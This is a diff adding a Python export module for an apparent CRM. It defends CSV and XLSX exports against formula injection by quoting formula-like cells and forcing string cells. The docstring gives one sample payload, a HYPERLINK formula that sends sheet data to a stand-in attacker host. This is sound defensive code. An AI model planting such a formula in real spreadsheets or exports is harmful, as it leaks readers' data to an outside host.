@@ -1,0 +1,104 @@
+"""Every CSV and XLSX file OrderCRM writes, so none can be turned against its reader.
+
+A spreadsheet program runs a cell that begins with ``=``, ``+``, ``-`` or ``@`` (and, in some
+programs, a tab or carriage return before one of them) as a formula: a customer named
+``=HYPERLINK("http://evil.example?"&A1,"click")`` would leak the sheet or run a command on the
+reader's machine (CSV/formula injection, OWASP). The rule, applied to every text cell of every
+export:
+
+- CSV: such a text cell gets a leading single quote (OWASP's recommendation), which the
+  spreadsheet shows and never evaluates;
+- XLSX: every text cell is written as a string (``data_type 's'``), never as a formula; a cell
+  that would have looked like one is also marked ``quotePrefix`` so that editing it in Excel
+  keeps it text.
+
+Numbers (``int``, ``float``, ``Decimal``) stay numbers: a negative amount is ``-12.50`` in
+CSV and a numeric cell in XLSX. Dates stay dates in XLSX and ISO text in CSV.
+"""
+
+from __future__ import annotations
+
+import csv
+import datetime
+import io
+from collections.abc import Iterable, Sequence
+from decimal import Decimal
+
+FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
+
+CSV_CONTENT_TYPE = "text/csv; charset=utf-8"
+XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
+
+_NUMBERS = (int, float, Decimal)
+
+
+def is_formula_like(text: str) -> bool:
+    """True for text a spreadsheet program could run as a formula."""
+    return text.startswith(FORMULA_TRIGGERS)
+
+
+def csv_cell(value):
+    """One value as a CSV cell: numbers unchanged, formula-like text behind a single quote."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return str(value)
+    if isinstance(value, _NUMBERS):
+        return value
+    if isinstance(value, datetime.date):  # datetime too
+        return value.isoformat()
+    text = str(value)
+    return "'" + text if is_formula_like(text) else text
+
+
+def write_csv(header: Sequence, rows: Iterable[Sequence]) -> bytes:
+    """UTF-8 CSV with a byte-order mark (so spreadsheet programs read Chinese names), every
+    cell through :func:`csv_cell`."""
+    buffer = io.StringIO()
+    writer = csv.writer(buffer)
+    writer.writerow([csv_cell(v) for v in header])
+    for row in rows:
+        writer.writerow([csv_cell(v) for v in row])
+    return ("\ufeff" + buffer.getvalue()).encode()
+
+
+def write_xlsx(
+    header: Sequence,
+    rows: Iterable[Sequence],
+    *,
+    title: str = "",
+    number_formats: dict[int, str] | None = None,
+) -> bytes:
+    """An XLSX workbook of one sheet: a header row, then ``rows``. Text is always a string
+    cell (never a formula); numbers are numeric cells (``Decimal`` stays exact), with
+    ``number_formats`` (0-based column → Excel format) applied to the numbers of a column."""
+    from openpyxl import Workbook
+    from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE, Cell
+
+    book = Workbook()
+    sheet = book.active
+    if title:
+        sheet.title = title
+    formats = number_formats or {}
+
+    def cell(value, column: int | None):
+        if value is None or isinstance(value, (bool, datetime.date, *_NUMBERS)):
+            made = Cell(sheet, value=value)
+            if column in formats and isinstance(value, _NUMBERS) and not isinstance(value, bool):
+                made.number_format = formats[column]
+            return made
+        # Control characters XLSX cannot hold would make openpyxl refuse the whole file.
+        text = ILLEGAL_CHARACTERS_RE.sub("", str(value))
+        made = Cell(sheet, value=text)
+        # Assigning text that starts with "=" makes openpyxl write a formula: force a string.
+        made.data_type = "s"
+        if is_formula_like(text):
+            made.quotePrefix = True
+        return made
+
+    sheet.append([cell(v, None) for v in header])
+    for row in rows:
+        sheet.append([cell(v, i) for i, v in enumerate(row)])
+    buffer = io.BytesIO()
+    book.save(buffer)
+    return buffer.getvalue()
